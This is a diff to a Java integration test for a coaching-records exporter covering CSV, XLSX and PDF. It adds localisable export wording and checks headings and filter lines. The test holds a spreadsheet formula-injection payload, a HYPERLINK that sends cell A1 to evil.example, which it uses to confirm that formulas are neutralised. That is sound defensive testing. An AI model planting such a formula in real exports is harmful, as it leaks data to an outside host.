@@ -8,6 +8,7 @@ import com.lowagie.text.pdf.parser.PdfTextExtractor;
 import dimple.application.coaching.ExportFormat;
 import dimple.application.coaching.ExportHeading;
 import dimple.application.coaching.ExportInterrupted;
+import dimple.application.coaching.ExportWords;
 import dimple.domain.coaching.CoachingRecord;
 import dimple.domain.coaching.CoachingRecordQuery;
 import dimple.domain.coaching.Conversation;
@@ -36,8 +37,7 @@ import org.junit.jupiter.api.Test;
 /** The three export formats over a real database: content, RFC 4180, formula neutralisation, scope. */
 class JpaCoachingExporterIT {
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
-    private static final ExportHeading HEADING = new ExportHeading("Coaching records", "team=Front Desk", "Hana HR (hana)",
-            CoachingWorld.T0);
+    private static final ExportHeading HEADING = new ExportHeading("team=Front Desk", "Hana HR (hana)", CoachingWorld.T0);
 
     private final CoachingWorld w = new CoachingWorld();
     private final String lesson = Ids.newId();
@@ -61,8 +61,12 @@ class JpaCoachingExporterIT {
     }
 
     private byte[] export(CoachingRecordQuery query, ExportFormat format) {
+        return export(query, format, HEADING, EnglishWords.EXPORT);
+    }
+
+    private byte[] export(CoachingRecordQuery query, ExportFormat format, ExportHeading heading, ExportWords words) {
         ByteArrayOutputStream out = new ByteArrayOutputStream();
-        long rows = w.db.inTransaction(em -> new JpaCoachingExporter(em).write(query, format, HEADING, out));
+        long rows = w.db.inTransaction(em -> new JpaCoachingExporter(em).write(query, format, heading, words, out));
         assertThat(rows).isEqualTo(count(query));
         return out.toByteArray();
     }
@@ -133,6 +137,7 @@ class JpaCoachingExporterIT {
                 || c.startsWith("\t") || c.startsWith("\r"));
         assertThat(cells).doesNotContain("A draft HR never sees");
         assertThat(entry(xlsx, "[Content_Types].xml")).contains("spreadsheetml");
+        assertThat(entry(xlsx, "xl/workbook.xml")).contains("name=\"Coaching records\"");
     }
 
     /**
@@ -180,8 +185,50 @@ class JpaCoachingExporterIT {
             all.append(new PdfTextExtractor(reader).getTextFromPage(p));
         }
         assertThat(all.toString()).contains("Emma Employee", "+1 for the handover book", "Employee comment", FORMULA.substring(0, 20),
-                "Eli Employee", "Eli's record").doesNotContain("A draft HR never sees");
+                "Eli Employee", "Eli's record", "Coaching records \u2014 restricted", "Exported by Hana HR (hana), 2026-11-23 10:00 UTC",
+                "Team Front Desk \u00b7 coach Lena Leader (lena) \u00b7 employee emma \u00b7 record " + declined.id(), "Held on",
+                "Follow-up on", "Retain until", "Assessment").doesNotContain("A draft HR never sees");
         reader.close();
+    }
+
+    @Test
+    void pdf_ofEveryRecord_saysSoInItsFilterLine() throws IOException {
+        byte[] pdf = export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.PDF, new ExportHeading("", "Hana HR (hana)", CoachingWorld.T0),
+                EnglishWords.EXPORT);
+
+        assertThat(new PdfTextExtractor(new PdfReader(pdf)).getTextFromPage(1)).contains("Filter: all records");
+    }
+
+    /**
+     * The file's own words all come from the words the web tier hands in (ADR 20): given other words, no
+     * English is left in any format, and the records are still written as stored.
+     */
+    @Test
+    void everyFormat_writesOnlyTheWordsItIsGiven() throws IOException {
+        ExportWords codes = (code, args) -> code.substring(code.lastIndexOf('.') + 1).toUpperCase(java.util.Locale.ROOT)
+                + (args.length == 0 ? "" : "(" + String.join(";", java.util.Arrays.stream(args).map(String::valueOf).toList()) + ")");
+        CoachingRecordQuery all = CoachingRecordQuery.visibleTo(w.hr());
+        List<String> english = List.of("Coaching records", "Record id", "Employee name", "Held on", "Assessment", "restricted", "Exported by",
+                "Filter", "Page", "coach ", "all records");
+
+        String csv = new String(export(all, ExportFormat.CSV, HEADING, codes), StandardCharsets.UTF_8);
+        assertThat(csv).startsWith("ID,EMPLOYEE,EMPLOYEENAME,TEAM,COACH,COACHNAME,HELDON,TOPIC,EXPECTATION,OBSERVATIONS,AGREEDACTIONS,"
+                + "FOLLOWUPON,LESSONS,STATUS,SHAREDAT,EMPLOYEERESPONSE,EMPLOYEECOMMENT,RESPONDEDAT,CLOSEDAT,RETAINUNTIL,ASSESSMENTID\r\n");
+        assertThat(csv).contains("'+1 for the handover book").doesNotContain(english);
+
+        byte[] xlsx = export(all, ExportFormat.XLSX, HEADING, codes);
+        assertThat(entry(xlsx, "xl/workbook.xml")).contains("name=\"TITLE\"");
+        assertThat(inlineStrings(entry(xlsx, "xl/worksheets/sheet1.xml"))).contains("ID", "ASSESSMENTID", "'+1 for the handover book")
+                .doesNotContainAnyElementsOf(english);
+
+        PdfReader reader = new PdfReader(export(all, ExportFormat.PDF, new ExportHeading("", "Hana HR (hana)", CoachingWorld.T0), codes));
+        String page = new PdfTextExtractor(reader).getTextFromPage(1);
+        assertThat(page).contains("HEADING(TITLE)", "EXPORTEDBY(Hana HR (hana);2026-11-23 10:00 UTC)", "FILTER(EVERYTHING)",
+                "RECORD(Front Desk;Lena Leader;lena;emma;" + declined.id() + ")", "HELDON", "ASSESSMENT", "Emma Employee",
+                "PAGE(1;" + reader.getNumberOfPages() + ")").doesNotContain(english);
+        PdfReader none = new PdfReader(export(new CoachingRecordQuery(w.hr(), null, w.hana.id(), null, null, null, null), ExportFormat.PDF,
+                HEADING, codes));
+        assertThat(new PdfTextExtractor(none).getTextFromPage(1)).contains("NONE", "FILTER(team=Front Desk)", "PAGE(1;1)");
     }
 
     @Test
@@ -203,7 +250,8 @@ class JpaCoachingExporterIT {
     void export_leavesTheCallersStreamOpen() {
         ClosingWatcher out = new ClosingWatcher();
         for (ExportFormat format : ExportFormat.values()) {
-            w.db.inTransaction(em -> new JpaCoachingExporter(em).write(CoachingRecordQuery.visibleTo(w.hr()), format, HEADING, out));
+            w.db.inTransaction(em -> new JpaCoachingExporter(em).write(CoachingRecordQuery.visibleTo(w.hr()), format, HEADING,
+                    EnglishWords.EXPORT, out));
         }
 
         assertThat(out.closed).isFalse();
@@ -220,7 +268,8 @@ class JpaCoachingExporterIT {
         };
 
         ExportInterrupted interrupted = catchThrowableOfType(ExportInterrupted.class, () -> w.db.inTransaction(em ->
-                new JpaCoachingExporter(em).write(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV, HEADING, broken)));
+                new JpaCoachingExporter(em).write(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV, HEADING, EnglishWords.EXPORT,
+                        broken)));
 
         assertThat(interrupted.rowsWritten()).isBetween(0L, 2L);
         assertThat(interrupted).hasRootCauseInstanceOf(IOException.class);
